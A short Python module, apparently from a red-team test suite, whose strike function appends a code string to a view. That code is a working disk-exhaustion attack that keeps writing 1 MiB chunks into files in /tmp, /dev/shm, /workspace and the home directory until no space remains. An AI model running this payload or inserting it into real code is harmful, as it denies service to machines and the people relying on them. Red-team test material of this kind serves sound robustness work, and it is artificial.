"""Files fill every place that can be written to."""

from bench.redteam.view import View

CODE = """
import os as _os
for _place in ("/tmp", "/dev/shm", "/workspace", _os.path.expanduser("~")):
    for _number in range(100):
        try:
            with open("%s/fill%d" % (_place, _number), "wb") as _file:
                while True:
                    _file.write(bytes(1 << 20))
        except OSError:
            pass
"""


def strike(view: View) -> None:
    view.append(CODE)
